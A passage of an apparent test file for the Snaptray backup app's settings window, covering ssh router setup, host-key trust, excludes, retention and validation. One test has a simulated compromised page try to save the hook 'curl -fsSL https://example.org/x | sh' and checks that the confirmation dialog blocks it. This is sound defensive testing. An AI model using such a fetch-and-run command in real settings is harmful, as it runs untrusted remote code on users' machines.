/**
 * The settings window in real Chromium, over the real handlers of the main process (only the
 * IPC transport replaced), the real engine, rsync, and an sshd on loopback as the router.
 */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { hostname, tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { spawnProcess } from '../../core/process.js';
import { defaultProfile, type Profile } from '../../core/settings/schema.js';
import { openConfStore, saveSettings } from '../../core/settings/store.js';
import type { SettingsWindowApi } from '../../electron/ipc/contract.js';
import { createSettingsApi, type SettingsApi } from '../../electron/settings/api.js';
import { answeredDialogs, type AnsweredDialogs } from '../support/answered-dialogs.js';
import { launchChromium, type Chromium } from '../support/chromium.js';
import { lowContrastTexts } from '../support/contrast.js';
import { makeCliHome, runCli, type CliHome } from '../support/cli.js';
import { rsyncDryRunTotals } from '../support/rsync-dry-run.js';
import { startSshd, type Sshd } from '../support/sshd.js';
import { makeTempDir, writeTree } from '../support/tree.js';
import {
  buildBridge,
  buildWindows,
  openSettingsWindow,
  expectStrictPage,
  serveFolder,
  type SettingsWindow,
  type StaticServer,
} from '../support/window-page.js';

const run = promisify(execFile);
/** Each ssh connection costs 1-2 s here, and far more on a busy machine. */
const SSH_WAIT_MS = 90_000;
const ARTIFACTS = join(import.meta.dirname, '..', '..', 'test-artifacts', 'settings-window');

let chromium: Chromium;
let server: StaticServer;
let bridge: string;
let sshd: Sshd;
let builtDir: string;

interface UserHome extends CliHome {
  home: string;
  configFile: string;
  api: SettingsApi;
  /** The app's own dialogs, as the user answers them. */
  dialogs: AnsweredDialogs;
}

/** A user of their own: temp HOME and XDG folders, and the handlers the main process would run. */
async function makeUser(): Promise<UserHome> {
  const cli = await makeCliHome();
  const home = await makeTempDir('st-user-');
  const env = { ...cli.env, HOME: home };
  const dialogs = answeredDialogs();
  const api = createSettingsApi({
    env,
    spawn: spawnProcess,
    openBackend: openConfStore,
    now: () => new Date(),
    hostname: hostname(),
    dialogs,
  });
  return {
    ...cli,
    env,
    home,
    configFile: join(cli.configDir, 'Snaptray', 'config.json'),
    api,
    dialogs,
  };
}

/** The size the main process opens the window at. */
const WINDOW_SIZE = { width: 900, height: 720 };
const PAGES = [
  'Destination',
  'What to back up',
  'Schedule',
  'Keep',
  'Notifications',
  'Advanced',
] as const;
type PageName = (typeof PAGES)[number];

async function open(user: UserHome): Promise<SettingsWindow> {
  const win = await openSettingsWindow(
    chromium.context,
    `${server.url}settings.html`,
    bridge,
    user.api,
    WINDOW_SIZE,
  );
  await win.page.getByRole('button', { name: 'Save' }).waitFor();
  return win;
}

/** Shows a page by clicking its entry in the sidebar. */
async function goTo(page: Page, name: PageName): Promise<void> {
  await page.getByRole('tab', { name, exact: true }).click();
  await page.getByRole('tabpanel', { name, exact: true }).waitFor();
}

/** The texts of the visible error (or warning) paragraphs a control names in aria-describedby. */
function describedBy(control: Locator, kind: 'field-error' | 'field-warning'): Promise<string> {
  return control.evaluate((element, cls) => {
    const ids = (element.getAttribute('aria-describedby') ?? '').split(/\s+/).filter(Boolean);
    return ids
      .map((id) => document.getElementById(id))
      .filter((e): e is HTMLElement => e !== null && e.classList.contains(cls) && !e.hidden)
      .map((e) => e.textContent)
      .join(' ');
  }, kind);
}

/**
 * Saves what the window shows. A page taller than the window is shown whole, as if the window
 * were tall enough: the page scrolls inside the window, which a screenshot would cut off.
 */
async function screenshot(page: Page, name: string): Promise<void> {
  const size = page.viewportSize() ?? WINDOW_SIZE;
  const hidden = await page
    .locator('.page-scroller')
    .evaluate((e) => e.scrollHeight - e.clientHeight);
  if (hidden > 0) await page.setViewportSize({ ...size, height: size.height + hidden });
  await page.screenshot({ path: join(ARTIFACTS, `${name}.png`) });
  if (hidden > 0) await page.setViewportSize(size);
}

/** What the bar under the page says about the last save, revert or reload. */
function saveStatus(page: Page): Promise<string | null> {
  return page.locator('.actionbar [role="status"]').textContent();
}

const PREVIEW_DONE = 'Computed by rsync from the sources as they are now.';

/** What the excludes preview says it is doing: waiting, asking rsync, or done. */
function previewStatus(page: Page): Promise<string | null> {
  return page.locator('#excludes .preview [role="status"]').textContent();
}

async function shownTotals(page: Page): Promise<{ files: number; bytes: number } | null> {
  const total = page.locator('#excludes [data-bytes]');
  if ((await total.count()) === 0) return null;
  return {
    files: Number(await total.getAttribute('data-files')),
    bytes: Number(await total.getAttribute('data-bytes')),
  };
}

function profileWith(over: Partial<Profile>): Profile {
  return { ...defaultProfile(), prefix: 'box', ...over };
}

async function writeSettings(user: UserHome, profile: Profile): Promise<void> {
  // A separate store, as the CLI (or another app instance) writes the file.
  const store = await openConfStore(user.configFile);
  const saved = saveSettings(store, { version: 1, profiles: { default: profile } });
  expect(saved.ok).toBe(true);
}

beforeAll(async () => {
  builtDir = await mkdtemp(join(tmpdir(), 'st-window-'));
  await mkdir(ARTIFACTS, { recursive: true });
  [, bridge, chromium, sshd] = await Promise.all([
    buildWindows(builtDir),
    buildBridge(),
    launchChromium(),
    startSshd(),
  ]);
  server = await serveFolder(builtDir);
});
afterAll(async () => {
  await chromium?.close();
  await server?.close();
  await sshd?.stop();
  if (builtDir) await rm(builtDir, { recursive: true, force: true });
});
describe('the settings window', () => {
  it('is built with a strict CSP and no inline script', async () => {
    await expectStrictPage(join(builtDir, 'settings.html'));
  });
  it('sets up a router over ssh: paste the command, trust the key, initialise, save', async () => {
    const user = await makeUser();
    const dest = await makeTempDir('st-router-');
    const realKnownHosts = join(userInfo().homedir, '.ssh', 'known_hosts');
    const realBefore = existsSync(realKnownHosts) ? await readFile(realKnownHosts, 'utf8') : null;
    const win = await open(user);
    const { page } = win;

    expect(await page.getByRole('radio', { name: 'A router or NAS over ssh' }).isChecked()).toBe(
      true,
    );
    await page
      .getByLabel('Paste an ssh command')
      .fill(`ssh -i ${sshd.clientKey} -p ${sshd.port} ${sshd.user}@127.0.0.1`);
    await page.getByRole('button', { name: 'Fill in the fields from the ssh command' }).click();
    await expect
      .poll(() => page.getByLabel('Host', { exact: true }).inputValue())
      .toBe('127.0.0.1');
    expect(await page.getByLabel('User', { exact: true }).inputValue()).toBe(sshd.user);
    expect(await page.getByLabel('Port', { exact: true }).inputValue()).toBe(String(sshd.port));
    expect(await page.getByLabel('Key file', { exact: true }).inputValue()).toBe(sshd.clientKey);
    await page.getByLabel('Folder on the router').fill(dest);

    await page.getByRole('button', { name: 'Test connection' }).click();
    const offer = page.getByRole('region', { name: 'Trust this host key?' });
    await offer.waitFor({ timeout: SSH_WAIT_MS });
    const keygen = await run('ssh-keygen', ['-l', '-f', sshd.hostKeyPub]);
    const fingerprint = keygen.stdout.split(' ')[1];
    expect(await offer.locator('[data-fingerprint]').textContent()).toBe(fingerprint);
    expect(await page.locator('[data-step="reachable"]').getAttribute('class')).toBe('step ok');
    expect(await page.locator('[data-step="host-key"]').getAttribute('class')).toBe('step bad');
    expect(await page.locator('[data-step="hard-links"] .word').textContent()).toBe('Not checked');
    await screenshot(page, 'destination-host-key-offer');

    // The app's own dialog asks, with the key it scanned; the user answers Trust.
    user.dialogs.answers.push('Trust');
    await offer.getByRole('button', { name: 'Trust this key' }).click();
    const initialise = page.getByRole('region', { name: 'Set up this folder as a destination?' });
    await initialise.waitFor({ timeout: SSH_WAIT_MS });
    expect(await page.locator('[data-step="authentication"]').getAttribute('class')).toBe(
      'step ok',
    );
    expect(await page.locator('[data-step="marker"]').getAttribute('class')).toBe('step bad');
    const go = initialise.getByRole('button', { name: 'Initialise destination' });
    expect(await go.isDisabled()).toBe(true);
    await initialise
      .getByRole('checkbox', { name: /I have checked that .* is the right folder/ })
      .check();
    await go.click();
    await page.locator('[data-step="hard-links"].ok').waitFor({ timeout: SSH_WAIT_MS });
    const steps = await page
      .locator('[data-step]')
      .evaluateAll((items) =>
        items.map((item) => [
          item.getAttribute('data-step'),
          item.querySelector('.word')?.textContent,
        ]),
      );
    expect(steps).toEqual(
      [
        'reachable',
        'host-key',
        'authentication',
        'rsync',
        'marker',
        'owner',
        'writable',
        'hard-links',
        'ownership',
      ].map((step) => [step, 'Passed']),
    );
    expect(await page.locator('[data-step="rsync"] .step-message').textContent()).toMatch(
      /protocol \d+/,
    );
    expect(existsSync(join(dest, '.snaptray-destination'))).toBe(true);
    await screenshot(page, 'destination-all-passed');

    // The key went to the app's own known_hosts file, never to ~/.ssh/known_hosts.
    const appKnownHosts = await readFile(join(user.configDir, 'Snaptray', 'known_hosts'), 'utf8');
    const hostKey = (await readFile(sshd.hostKeyPub, 'utf8')).split(' ').slice(0, 2).join(' ');
    expect(appKnownHosts).toContain(`[127.0.0.1]:${sshd.port} ${hostKey}`);
    const realAfter = existsSync(realKnownHosts) ? await readFile(realKnownHosts, 'utf8') : null;
    expect(realAfter).toBe(realBefore);

    expect(user.dialogs.questions.map((q) => q.message)).toEqual([
      `Trust the ssh-ed25519 key of 127.0.0.1 (port ${sshd.port})?`,
    ]);
    expect(user.dialogs.questions[0]!.detail).toContain(`Fingerprint: ${fingerprint}`);

    // A first destination is saved after the app's own question, which names it.
    user.dialogs.answers.push('Save');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    expect(user.dialogs.questions[1]!.detail).toContain(
      `Destination:\n  was: (none)\n  now: ${sshd.user}@127.0.0.1:${dest}\nPort:\n  was: (not set: 22, or the ssh config’s)\n  now: ${sshd.port}\n`,
    );
    expect((await stat(user.configFile)).mode & 0o777).toBe(0o600);
    const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
      profiles: { default: Profile };
    };
    expect(written.profiles.default.destination).toBe(`${sshd.user}@127.0.0.1:${dest}`);
    expect(written.profiles.default.ssh.port).toBe(sshd.port);
    expect(written.profiles.default.sources).toEqual([user.home]);
    const check = await runCli(['check', '--json'], user);
    expect(check.code, check.stderr).toBe(0);
    expect((check.json?.steps as { ok: boolean }[]).every((s) => s.ok)).toBe(true);
    expect(win.problems).toEqual([]);
    await page.close();
  }, 300_000);

  it('warns loudly about a changed host key and offers nothing to ignore it', async () => {
    const user = await makeUser();
    const other = await run('ssh-keygen', [
      '-q',
      '-t',
      'ed25519',
      '-N',
      '',
      '-f',
      join(user.home, 'k'),
    ]);
    expect(other.stderr).toBe('');
    const wrongKey = (await readFile(join(user.home, 'k.pub'), 'utf8')).split(' ').slice(0, 2);
    await mkdir(join(user.configDir, 'Snaptray'), { recursive: true });
    await writeSettings(
      user,
      profileWith({
        destination: `${sshd.user}@127.0.0.1:/tmp`,
        ssh: {
          port: sshd.port,
          identityFile: sshd.clientKey,
          knownHostsFile: null,
          configFile: null,
          rsyncPath: null,
        },
      }),
    );
    const { writeFile } = await import('node:fs/promises');
    await writeFile(
      join(user.configDir, 'Snaptray', 'known_hosts'),
      `[127.0.0.1]:${sshd.port} ${wrongKey.join(' ')}\n`,
    );
    const win = await open(user);
    await win.page.getByRole('button', { name: 'Test connection' }).click();
    const alarm = win.page.getByRole('alert').filter({ hasText: 'the host key has changed' });
    await alarm.waitFor({ timeout: SSH_WAIT_MS });
    expect(await alarm.textContent()).toMatch(/CHANGED/);
    expect(await win.page.getByRole('button', { name: /trust/i }).count()).toBe(0);
    expect(await win.page.getByRole('button', { name: /initialise/i }).count()).toBe(0);
    await screenshot(win.page, 'destination-host-key-changed');
    await win.page.close();
  });
  it('saves a hook and trusts a key only with the yes of the app’s own dialog, whoever asks', async () => {
    const user = await makeUser();
    await mkdir(join(user.configDir, 'Snaptray'), { recursive: true });
    await writeSettings(
      user,
      profileWith({
        destination: `${sshd.user}@127.0.0.1:/tmp`,
        ssh: { ...defaultProfile().ssh, port: sshd.port, identityFile: sshd.clientKey },
      }),
    );
    const before = await readFile(user.configFile);
    const knownHosts = join(user.configDir, 'Snaptray', 'known_hosts');
    const fingerprint = (await run('ssh-keygen', ['-l', '-f', sshd.hostKeyPub])).stdout.split(
      ' ',
    )[1]!;
    const win = await open(user);
    const { page } = win;

    // A page gone bad calls its API itself, past its own controls: the app asks, nobody answers.
    const answers = await page.evaluate(
      async ([port, fingerprint]) => {
        const api = (window as unknown as { snaptray: SettingsWindowApi }).snaptray;
        const loaded = await api.loadSettings();
        if (!loaded.ok) return [loaded];
        const profile = loaded.value.profile;
        return [
          await api.saveSettings({
            ...profile,
            hooks: { ...profile.hooks, pre: 'curl -fsSL https://example.org/x | sh' },
          }),
          await api.saveSettings({ ...profile, destination: 'backup@203.0.113.9:/srv/x' }),
          await api.trustHostKey({ host: '127.0.0.1', port, fingerprint }),
        ];
      },
      [sshd.port, fingerprint] as const,
    );
    expect(answers).toEqual([
      { ok: false, declined: true, message: 'Nothing was saved: you did not confirm the changes.' },
      { ok: false, declined: true, message: 'Nothing was saved: you did not confirm the changes.' },
      {
        ok: false,
        declined: true,
        message: 'Nothing was trusted: you did not confirm the host key.',
      },
    ]);
    expect(user.dialogs.questions.map((q) => [q.title, q.confirm])).toEqual([
      ['Save Settings', 'Save'],
      ['Save Settings', 'Save'],
      ['Trust Host Key', 'Trust'],
    ]);
    expect(user.dialogs.questions[0]!.detail).toContain(
      'Command before a backup:\n  was: (none)\n  now: curl -fsSL https://example.org/x | sh\n',
    );
    expect(await readFile(user.configFile)).toEqual(before);
    expect(existsSync(knownHosts)).toBe(false);

    // The user edits the hook in the window: Cancel in the app's dialog saves nothing and keeps
    // the edit; Save saves it.
    await goTo(page, 'Advanced');
    await page.getByLabel('Before a backup').fill('notify-send "Backing up"');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect
      .poll(() => saveStatus(page))
      .toBe('Nothing was saved: you did not confirm the changes.');
    expect(await readFile(user.configFile)).toEqual(before);
    expect(await page.getByLabel('Before a backup').inputValue()).toBe('notify-send "Backing up"');
    expect(await page.getByRole('button', { name: 'Save' }).isEnabled()).toBe(true);
    user.dialogs.answers.push('Save');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
      profiles: { default: Profile };
    };
    expect(written.profiles.default.hooks.pre).toBe('notify-send "Backing up"');
    expect(user.dialogs.questions.at(-1)!.detail).toContain(
      'Command before a backup:\n  was: (none)\n  now: notify-send "Backing up"\n',
    );
    expect(win.problems).toEqual([]);
    await page.close();
  });

  it('previews what the excludes leave out, with the totals rsync computes', async () => {
    const user = await makeUser();
    await writeTree(user.home, {
      'docs/letter.txt': 'x'.repeat(1_000),
      'docs/notes.md': 'y'.repeat(2_345),
      '.cache/thumbnails/big.png': Buffer.alloc(200_000, 7),
      '.cache/fontconfig/f': Buffer.alloc(5_000, 1),
      'project/node_modules/dep/index.js': Buffer.alloc(50_000, 2),
      'project/main.ts': 'z'.repeat(700),
    });
    const win = await open(user);
    const { page } = win;
    await goTo(page, 'What to back up');

    const everything = await rsyncDryRunTotals([user.home], []);
    await expect.poll(() => shownTotals(page)).toEqual(everything);

    await page.getByRole('button', { name: 'Add Caches' }).click();
    const withCaches = await rsyncDryRunTotals([user.home], ['.cache/']);
    expect(withCaches.bytes).toBeLessThan(everything.bytes);
    await expect.poll(() => shownTotals(page)).toEqual(withCaches);
    const firstRow = page.locator('#excludes tbody tr').first();
    expect(await firstRow.locator('td').allTextContents()).toEqual([
      `${user.home}/.cache/`,
      '205 KB',
      '2',
      '.cache/',
    ]);
    expect(await page.getByRole('button', { name: 'Caches: added' }).isDisabled()).toBe(true);

    await page.getByRole('button', { name: 'Add node_modules and build outputs' }).click();
    const presetPatterns = await page
      .getByRole('textbox', { name: /^Exclude pattern/ })
      .evaluateAll((els) => els.map((e) => (e as HTMLTextAreaElement).value));
    const withBoth = await rsyncDryRunTotals([user.home], presetPatterns);
    await expect.poll(() => shownTotals(page)).toEqual(withBoth);
    await screenshot(page, 'excludes-preview');

    // A pattern typed by hand is checked as it is typed.
    await page.getByRole('button', { name: 'Add pattern' }).click();
    const typed = page.getByRole('textbox', {
      name: `Exclude pattern ${presetPatterns.length + 1}`,
    });
    expect(await typed.evaluate((e) => e === document.activeElement)).toBe(true);
    await typed.fill('   ');
    await expect.poll(() => describedBy(typed, 'field-error')).toBe('Must not be only spaces.');
    await typed.fill('*.md\nnotes');
    await expect.poll(() => describedBy(typed, 'field-error')).toBe('Must be a single line.');
    await typed.fill('*.md');
    await expect.poll(() => describedBy(typed, 'field-error')).toBe('');
    await expect
      .poll(() => shownTotals(page))
      .toEqual(await rsyncDryRunTotals([user.home], [...presetPatterns, '*.md']));
    expect(win.problems).toEqual([]);
    await page.close();
  });
  it('cancels a preview when a newer one is asked for', async () => {
    const user = await makeUser();
    await writeTree(user.home, { 'a.txt': 'a' });
    const first = user.api.previewExcludes({ sources: [user.home], excludes: [] });
    const second = user.api.previewExcludes({ sources: [user.home], excludes: ['*.txt'] });
    expect(await first).toEqual({ ok: false, cancelled: true });
    const latest = await second;
    expect(latest.ok && latest.value.includedFiles).toBe(0);
  });
  it('shows each field error beside its field and saves nothing', async () => {
    const user = await makeUser();
    const win = await open(user);
    const { page } = win;
    const port = page.getByLabel('Port', { exact: true });
    await port.fill('70000');
    await expect.poll(() => describedBy(port, 'field-error')).toBe('Must be at most 65535.');
    expect(await port.getAttribute('aria-invalid')).toBe('true');
    await goTo(page, 'Schedule');
    const hours = page.getByLabel('Every', { exact: true });
    await hours.fill('twelve');
    await expect.poll(() => describedBy(hours, 'field-error')).toBe('Must be a number.');
    // The sidebar says which pages hold something to fix.
    const flagged = () =>
      page
        .getByRole('tab')
        .evaluateAll((tabs) =>
          tabs.filter((t) => t.classList.contains('needs-attention')).map((t) => t.textContent),
        );
    expect(await flagged()).toEqual(['Destination', 'Schedule']);
    expect(
      await page.getByRole('tab', { name: 'Schedule' }).getAttribute('aria-describedby'),
    ).toBeTruthy();
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('status').filter({ hasText: 'Nothing was saved' }).waitFor();
    expect(existsSync(user.configFile)).toBe(false);
    // The first field to fix is on another page: the window shows that page and focuses it.
    expect(await port.evaluate((e) => e === document.activeElement)).toBe(true);
    expect(await page.getByRole('tab', { name: 'Destination' }).getAttribute('aria-selected')).toBe(
      'true',
    );
    await screenshot(page, 'destination-field-error');
    await port.fill('2222');
    await goTo(page, 'Schedule');
    await hours.fill('12');
    await expect.poll(() => describedBy(port, 'field-error')).toBe('');
    await expect.poll(flagged).toEqual([]);
    expect(win.problems).toEqual([]);
    await page.close();
  });
  it('previews retention against snapshots the CLI made, as the CLI would prune', async () => {
    const user = await makeUser();
    const dest = await makeTempDir('st-disk-');
    const src = await makeTempDir('st-src-');
    await writeTree(src, { 'file.txt': 'hello' });
    expect((await runCli(['init', '--dest', dest], user)).code).toBe(0);
    for (let i = 0; i < 3; i++) {
      const backup = await runCli(
        ['backup', '--dest', dest, '--source', src, '--prefix', 'box'],
        user,
      );
      expect(backup.code, backup.stderr).toBe(0);
    }
    const listed = await runCli(['list', '--dest', dest, '--prefix', 'box', '--json'], user);
    const names = (listed.json?.snapshots as { name: string }[]).map((s) => s.name);
    expect(names).toHaveLength(3);

    await writeSettings(user, profileWith({ sources: [src] }));
    const win = await open(user);
    const { page } = win;
    await page.getByRole('radio', { name: 'A folder on this computer' }).check();
    win.pickAnswer = dest;
    await page.getByRole('button', { name: 'Choose the destination folder' }).click();
    await expect.poll(() => page.getByLabel('Folder', { exact: true }).inputValue()).toBe(dest);
    expect(win.picks).toEqual([{ kind: 'folder', title: 'Choose the folder for snapshots' }]);
    await goTo(page, 'Keep');
    await page.getByLabel('Keep every snapshot for').fill('0');
    await page.getByLabel('Then one a day for').fill('1');
    await page.getByLabel('Then one a week for').fill('0');
    await page.getByLabel('Then one a month for').fill('0');
    await page.getByRole('button', { name: 'Preview on the destination' }).click();
    await page.locator('#retention tbody tr').nth(2).waitFor();
    const shown = await page
      .locator('#retention tbody tr')
      .evaluateAll((rows) =>
        rows.map((r) => [
          r.getAttribute('data-snapshot'),
          r.querySelector('[data-action]')?.getAttribute('data-action'),
        ]),
      );
    await screenshot(page, 'retention-preview');

    user.dialogs.answers.push('Save');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const prune = await runCli(['prune', '--dry-run', '--json'], user);
    expect(prune.code, prune.stderr).toBe(0);
    const cli = prune.json as { keep: { name: string }[]; delete: { name: string }[] };
    const expected = [
      ...cli.keep.map((k) => [k.name, 'keep']),
      ...cli.delete.map((d) => [d.name, 'delete']),
    ].sort();
    expect([...shown].sort()).toEqual(expected);
    expect(cli.keep.map((k) => k.name)).toEqual([names[2]]);
    expect(win.problems).toEqual([]);
    await page.close();
  });
  it('offers to take over a prefix another owner holds, and does it only when asked', async () => {
    const user = await makeUser();
    const stranger = await makeCliHome();
    const dest = await makeTempDir('st-disk-');
    const src = await makeTempDir('st-src-');
    await writeTree(src, { 'file.txt': 'hello' });
    expect((await runCli(['init', '--dest', dest], stranger)).code).toBe(0);
    const made = await runCli(
      ['backup', '--dest', dest, '--source', src, '--prefix', 'box', '--json'],
      stranger,
    );
    expect(made.code, made.stderr).toBe(0);
    const claimFile = join(dest, 'box.snaptray-owner.json');
    const theirs = JSON.parse(await readFile(claimFile, 'utf8')) as { owner: { id: string } };

    await writeSettings(user, profileWith({ sources: [src], destination: dest, prefix: 'box' }));
    const win = await open(user);
    const { page } = win;
    await page.getByRole('button', { name: 'Test connection' }).click();
    const offer = page.getByRole('region', { name: 'Take over these snapshots?' });
    await offer.waitFor({ timeout: SSH_WAIT_MS });
    expect(await page.locator('[data-step="owner"]').getAttribute('class')).toBe('step bad');
    expect(await page.locator('[data-step="owner"] .step-message').textContent()).toMatch(
      /belong to user \S+ on ".*" \(profile "default"\)/,
    );
    // Nothing is taken over before the user confirms.
    const takeOver = offer.getByRole('button', { name: 'Take over' });
    expect(await takeOver.isDisabled()).toBe(true);
    expect(JSON.parse(await readFile(claimFile, 'utf8'))).toEqual(theirs);
    await screenshot(page, 'destination-take-over');
    await offer.getByRole('checkbox', { name: /These snapshots are mine/ }).check();
    await takeOver.click();
    await page.locator('[data-step="owner"].ok').waitFor({ timeout: SSH_WAIT_MS });
    const ours = JSON.parse(await readFile(claimFile, 'utf8')) as {
      owner: { id: string };
      previousOwners: { id: string }[];
    };
    expect(ours.owner.id).not.toBe(theirs.owner.id);
    expect(ours.previousOwners.map((p) => p.id)).toEqual([theirs.owner.id]);
    // The user's own CLI now backs up under it, linking against the stranger's snapshot.
    const next = await runCli(['backup', '--json'], user);
    expect(next.code, next.stderr).toBe(0);
    expect(next.json?.files).toBe(0);
    expect(win.problems).toEqual([]);
    await page.close();
  });

  it("finds rsync off the router's PATH and fills in where it is when asked", async () => {
    const user = await makeUser();
    // rsync only at /opt/bin/rsync on this server, whatever the machine running the test has.
    const entware = await startSshd({}, { entware: true });
    onTestFinished(() => entware.stop());
    const sshd = entware;
    const key = entware.clientKey;
    const dest = await makeTempDir('st-router-');
    await mkdir(join(user.configDir, 'Snaptray'), { recursive: true });
    await writeFile(
      join(user.configDir, 'Snaptray', 'known_hosts'),
      await readFile(sshd.knownHosts, 'utf8'),
    );
    await writeSettings(
      user,
      profileWith({
        destination: `${sshd.user}@127.0.0.1:${dest}`,
        ssh: {
          port: sshd.port,
          identityFile: key,
          knownHostsFile: null,
          configFile: null,
          rsyncPath: null,
        },
      }),
    );
    const win = await open(user);
    const { page } = win;
    await page.getByRole('button', { name: 'Test connection' }).click();
    const offer = page.getByRole('region', { name: 'rsync was found elsewhere on the router' });
    await offer.waitFor({ timeout: SSH_WAIT_MS });
    expect(await page.locator('[data-step="rsync"]').getAttribute('class')).toBe('step bad');
    expect(await page.locator('[data-step="rsync"] .step-message').textContent()).toMatch(
      /rsync is at \/opt\/bin\/rsync: set --rsync-path/,
    );
    await screenshot(page, 'destination-rsync-elsewhere');
    await offer.getByRole('button', { name: 'Use /opt/bin/rsync' }).click();
    await page.locator('[data-step="rsync"].ok').waitFor({ timeout: SSH_WAIT_MS });
    user.dialogs.answers.push('Save');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const saved = JSON.parse(await readFile(user.configFile, 'utf8')) as {
      profiles: { default: Profile };
    };
    expect(saved.profiles.default.ssh.rsyncPath).toBe('/opt/bin/rsync');
    expect(win.problems).toEqual([]);
    await page.close();
  });

  it('reloads when the file changes, and asks first when there are unsaved edits', async () => {
    const user = await makeUser();
    await writeSettings(
      user,
      profileWith({ hooks: { pre: 'echo one', after: '', fail: '', timeoutSeconds: 600 } }),
    );
    const win = await open(user);
    const { page } = win;
    await goTo(page, 'Advanced');
    const pre = page.getByLabel('Before a backup');
    expect(await pre.inputValue()).toBe('echo one');

    await writeSettings(
      user,
      profileWith({ hooks: { pre: 'echo two', after: '', fail: '', timeoutSeconds: 600 } }),
    );
    await win.emitSettingsChanged();
    await expect.poll(() => pre.inputValue()).toBe('echo two');

    await pre.fill('echo mine');
    await writeSettings(
      user,
      profileWith({ hooks: { pre: 'echo three', after: '', fail: '', timeoutSeconds: 600 } }),
    );
    await win.emitSettingsChanged();
    const banner = page.getByRole('alert').filter({ hasText: 'changed outside this window' });
    await banner.waitFor();
    await screenshot(page, 'reload-banner');
    await banner.getByRole('button', { name: 'Keep my edits' }).click();
    expect(await pre.inputValue()).toBe('echo mine');

    await writeSettings(
      user,
      profileWith({ hooks: { pre: 'echo four', after: '', fail: '', timeoutSeconds: 600 } }),
    );
    await win.emitSettingsChanged();
    await banner.waitFor();
    await banner.getByRole('button', { name: 'Load the new settings' }).click();
    expect(await pre.inputValue()).toBe('echo four');

    // Closing with unsaved edits asks first; the main process shows that as a dialog.
    await pre.fill('echo unsaved');
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.type());
      void dialog.dismiss();
    });
    await page.close({ runBeforeUnload: true });
    await expect.poll(() => dialogs).toEqual(['beforeunload']);
    expect(page.isClosed()).toBe(false);
    await page.getByRole('button', { name: 'Revert' }).click();
    await page.close({ runBeforeUnload: true });
    await expect.poll(() => page.isClosed()).toBe(true);
    expect(dialogs).toEqual(['beforeunload']);
    expect(win.problems).toEqual([]);
  });
  it('names a setting it does not know, with the nearest known one, and a save keeps the file as written', async () => {
    const user = await makeUser();
    // A hand-edited file: "keepAllHour" for keepAllHours, which zod alone would drop in silence.
    // It names only what its author set, in the author's order; the rest is the defaults.
    const handWritten = {
      version: 1,
      laguage: 'en',
      profiles: {
        default: {
          retention: { keepAllHour: 72, dailyDays: 30 },
          prefix: 'box',
          colour: 'blue',
        },
      },
    };
    await mkdir(join(user.configDir, 'Snaptray'), { recursive: true });
    await writeFile(user.configFile, JSON.stringify(handWritten, null, 2), { mode: 0o600 });
    const win = await open(user);
    const { page } = win;
    const note = page.getByRole('note', { name: 'Settings Snaptray does not know' });
    await note.waitFor();
    expect(await note.locator('p').textContent()).toBe(
      'The settings file has settings Snaptray does not know. They are ignored, and saving here keeps them in the file:',
    );
    const unknownNames = [
      'laguage',
      'profiles.default.retention.keepAllHour (did you mean keepAllHours?)',
      'profiles.default.colour',
    ];
    expect(await note.getByRole('listitem').allTextContents()).toEqual(unknownNames);
    // It is seen from every page, and the Keep page shows what is in force: the default.
    await goTo(page, 'Keep');
    expect(await note.isVisible()).toBe(true);
    expect(await page.getByLabel('Keep every snapshot for').inputValue()).toBe('24');
    await screenshot(page, 'unknown-settings');

    // Set in the window and saved: the one setting changed is added; every other key, known or
    // not, stays as its author wrote it, in the same order, and no default is written out.
    await page.getByLabel('Keep every snapshot for').fill('72');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect.poll(() => saveStatus(page)).toBe('Saved.');
    const written = JSON.parse(await readFile(user.configFile, 'utf8'));
    expect(written).toEqual({
      version: 1,
      laguage: 'en',
      profiles: {
        default: {
          retention: { keepAllHour: 72, dailyDays: 30, keepAllHours: 72 },
          prefix: 'box',
          colour: 'blue',
        },
      },
    });
    expect(Object.keys(written)).toEqual(['version', 'laguage', 'profiles']);
    expect(Object.keys(written.profiles.default)).toEqual(['retention', 'prefix', 'colour']);
    expect(await note.getByRole('listitem').allTextContents()).toEqual(unknownNames);

    // A value set back to what it was is written as the user now chose it; nothing else moves.
    await page.getByLabel('Keep every snapshot for').fill('24');
    await page.getByRole('button', { name: 'Save' }).click();
    await expect
      .poll(async () => JSON.parse(await readFile(user.configFile, 'utf8')))
      .toEqual({
        ...written,
        profiles: {
          default: {
            ...written.profiles.default,
            retention: { ...written.profiles.default.retention, keepAllHours: 24 },
          },
        },
      });

    // A typo made by hand later shows with the next reload.
    await writeFile(
      user.configFile,
      JSON.stringify({ version: 1, profiles: { default: { schedule: { everyHour: 6 } } } }),
    );
    await win.emitSettingsChanged();
    await expect
      .poll(() => note.getByRole('listitem').allTextContents())
      .toEqual(['profiles.default.schedule.everyHour (did you mean everyHours?)']);
    expect(await note.locator('p').textContent()).toBe(
      'The settings file has a setting Snaptray does not know. It is ignored, and saving here keeps it in the file:',
    );
    expect(win.problems).toEqual([]);
  });

  it('names every control, works from the keyboard, and follows light and dark themes', async () => {
    const user = await makeUser();
    await writeSettings(
      user,
      profileWith({
        destination: `${sshd.user}@127.0.0.1:/mnt/sda1/backups`,
        sources: [user.home],
        excludes: ['.cache/', '*.iso'],
      }),
    );
    const win = await open(user);
    const { page } = win;
    // The router help is closed until the user opens it.
    const help = page.locator('details.help');
    expect(await help.evaluate((d) => (d as HTMLDetailsElement).open)).toBe(false);
    expect(await help.locator('pre').isVisible()).toBe(false);
    await help.locator('summary').click();
    // Where the key goes, in the README's words.
